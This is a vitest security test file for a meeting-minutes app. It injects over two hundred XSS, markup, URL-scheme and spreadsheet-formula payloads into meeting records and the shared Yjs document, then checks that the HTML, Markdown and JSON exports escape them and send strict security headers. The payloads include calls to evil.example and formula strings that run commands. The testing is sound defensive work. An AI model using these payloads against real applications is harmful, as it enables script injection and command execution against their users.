import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import * as Y from 'yjs';
import type { Command } from '#lib/meeting/meeting.ts';
import { readCommand } from '#lib/wire/command-schemas.ts';
import { noticedMeeting } from '../faults/opened-meeting.ts';
import { Writer } from '../faults/writer.ts';
import { Member } from './client.ts';
import { startDemo, type RunningHouse } from './house.ts';

const calls = ['alert(1)', 'fetch("//evil.example")', 'import("//evil.example/x.js")', 'top[`al`+`ert`](1)'];
const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart'];
const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'marquee',
  'iframe',
  'a href=#',
];
const urls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/x',
  'vbscript:x',
];

/** More than two hundred ways in which a text tries to be something else. */
const strings: readonly string[] = [
  ...calls.flatMap((call) => [
    `<script>${call}</script>`, `</script><script>${call}</script>`, `<SCRIPT SRC=//evil.example>${call}</SCRIPT>`,
    `"><script>${call}</script>`, `'><script>${call}</script>`, `--><script>${call}</script>`, `]]><script>${call}</script>`,
    `</title><script>${call}</script>`, `</style><script>${call}</script>`, `</textarea><script>${call}</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`, `<script\u0009>${call}</script>`, `{@html "<script>${call}</script>"}`,
    `\${${call}}`, `{{${call}}}`, `<%= ${call} %>`, `\`${call}\``, `";${call}//`, `';${call}//`, `\\";${call}//`,
  ]),
  ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=alert(1)>`)),
  ...urls.flatMap((url) => [
    `<a href="${url}">x</a>`, `<iframe src="${url}">`, `[x](${url})`, `![x](${url})`, `<${url}>`, `<object data="${url}">`,
    `<form action="${url}"><button>`, `<meta http-equiv=refresh content="0;url=${url}">`, `<link rel=stylesheet href="${url}">`,
  ]),
  '=cmd|\' /C calc\'!A0', '=HYPERLINK("//evil.example","x")', '+1+cmd|x!A1', '-2+3+cmd|x!A1', '@SUM(1+1)*cmd|x!A1', '\t=1+1',
  '<style>*{background:url(//evil.example)}</style>', '<base href=//evil.example>', '<template><script>x</script></template>',
  '<math><mi//xlink:href="javascript:alert(1)">', '<svg><animate onbegin=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;', '\u003cscript\u003e', '\uff1cscript\uff1e', '\u202e<script>',
  '__proto__', 'constructor', 'toString', '%3Cscript%3E', '<!--', '<![CDATA[<script>]]>', '<?xml version="1.0"?>', '\\u003cscript\\u003e',
].map((text) => text.trim()); // prettier-ignore

/** The printers' own tags and nothing else. */
const OWN = new RegExp(
  '</?(?:p|br|b|u|em|strong|h[1-4]|ul|ol|li|table|tbody|tr|td|th|blockquote|hr|article|div|span|title|html|head|body)' +
    '(?: (?:class|start|colspan|rowspan|lang)="[\\w -]+")?>',
  'g',
);

/** Everything that the room says and the minutes print, with such a text in it. */
function commandsWith(text: string, n: number): Command[] {
  const [name, personId] = [text.slice(0, 80), `nasty-${n}`];
  const blank = { responsible: [], supporting: [], deadline: null, important: false };
  return [
    { type: 'seat.add', personId, name, unitId: null, roles: ['expert'] },
    { type: 'attendance.checkIn', mode: 'remote', personId },
    { type: 'agenda.insert', title: text, minutes: 1 },
    { type: 'resolution.draft', title: text, text, measures: text, person: name, ...blank },
    { type: 'problem.record', text },
    { type: 'action.assign', title: text, unitId: 'wuye', person: name, deadline: null },
  ];
}

let running: RunningHouse;
let meetingId: string;
let chair: Member;
let html: string;
let markdown: string;
let json: string;
let state: string;

beforeAll(async () => {
  running = await startDemo();
  chair = await Member.login(running.url, 'chair');
  meetingId = await noticedMeeting(chair);
  await chair.join(meetingId);
  await chair.do({ type: 'attendance.checkIn', mode: 'onSite' });
  await chair.do({ type: 'meeting.open' });
  // All at once and past the sockets, which would take a minute; the shape of each is checked as theirs would be.
  const room = (await running.house.rooms.get(meetingId))!;
  const sent = strings.flatMap((text, n) => commandsWith(text, n));
  const outcomes = sent.map(({ type, ...fields }, n) => {
    const read = readCommand({ meetingId, id: `markup-${n}`, type, ...fields });
    if (!read) throw new Error(`malformed: ${JSON.stringify({ type, ...fields })}`);
    return room.command('chair', read.id, read.command);
  });
  for (const outcome of await Promise.all(outcomes)) expect(outcome).toHaveProperty('seq');
  // And without our editor, straight into the shared document: texts, names of nodes, attributes, marks, records.
  const writer = new Writer(chair, meetingId);
  await writer.synced();
  writer.begin();
  writer.doc.transact(() => {
    const root = writer.doc.getXmlFragment('minutes');
    for (const text of strings) {
      for (const kind of ['paragraph', 'heading', 'script', 'iframe', text.slice(0, 60)]) {
        const element = new Y.XmlElement(kind);
        const inside = new Y.XmlText();
        element.insert(0, [inside]);
        root.push([element]);
        inside.insert(0, text, { strong: {}, [text.slice(0, 60)]: { onclick: text } });
        for (const name of ['level', 'order', 'colspan', 'onclick', 'style', 'src']) element.setAttribute(name, text);
      }
      const record = new Y.XmlElement('record');
      for (const name of ['kind', 'title', 'body', 'rows', 'state', 'key']) record.setAttribute(name, text);
      root.push([record]);
    }
  });
  writer.type('the last word');
  await writer.saved();
  writer.leave();
  const read = async (path: string) => (await chair.fetch(`/api/meetings/${meetingId}${path}`)).text();
  [html, markdown, json, state] = (await Promise.all(
    ['/minutes.html', '/minutes.md', '/minutes.json', ''].map(read),
  )) as [string, string, string, string];
}, 120_000);
afterAll(async () => {
  chair.close();
  await running.stop();
});

describe(`${strings.length} texts that try to be script, markup or formula`, () => {
  test('there are at least two hundred, each of them once', () => {
    expect(new Set(strings).size).toBeGreaterThanOrEqual(200);
  });

  test('they are in what is looked at: the texts are there, as text', () => {
    expect(html.length).toBeGreaterThan(strings.length * 500);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('the last word');
    expect(state).toContain('<script>alert(1)</script>');
  });

  test('the page of the minutes has the printer’s tags and no others', () => {
    const body = html
      .slice(html.indexOf('<body>'))
      .replace(OWN, '')
      .replace(/<\/?body>/g, '');
    expect(body.match(/<[^ \d].{0,80}/g)).toBeNull();
    expect(html.match(/<(script|iframe|object|embed|link|base|form|img|svg|video|template|style)/gi)).toEqual([
      '<style',
    ]);
    expect(html.match(/<[^>]*\son\w+\s*=/gi)).toBeNull();
    expect(html.match(/<[^>]*(href|src|action|data)\s*=/gi)).toBeNull();
    expect(html.match(/<meta[^>]*>/gi)).toHaveLength(3);
  });

  test('it forbids by header and by itself whatever would run or load', async () => {
    const answer = await chair.fetch(`/api/meetings/${meetingId}/minutes.html`);
    for (const policy of [answer.headers.get('content-security-policy'), html])
      expect(policy).toMatch(/default-src 'none'; style-src 'unsafe-inline'/);
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
  });

  test('Markdown has neither tags nor links nor pictures', () => {
    const plain = markdown.replace(/\\[\\`*_{}[\]<>#|~!&]/g, '');
    expect(plain.match(/<[a-z!/?%]/gi)).toBeNull();
    expect(plain.match(/\]\(|!\[|\]\[/g)).toBeNull();
  });

  test('JSON is sent as JSON and is whole', async () => {
    expect(() => JSON.parse(json)).not.toThrow();
    for (const path of ['/minutes.json', '', '/log?since=0']) {
      const answer = await chair.fetch(`/api/meetings/${meetingId}${path}`);
      expect(answer.headers.get('content-type')).toMatch(/^application\/jsonl?;/);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  test('canonical text of the same document is the same again', async () => {
    expect(await (await chair.fetch(`/api/meetings/${meetingId}/minutes.json`)).text()).toBe(json);
  });
});
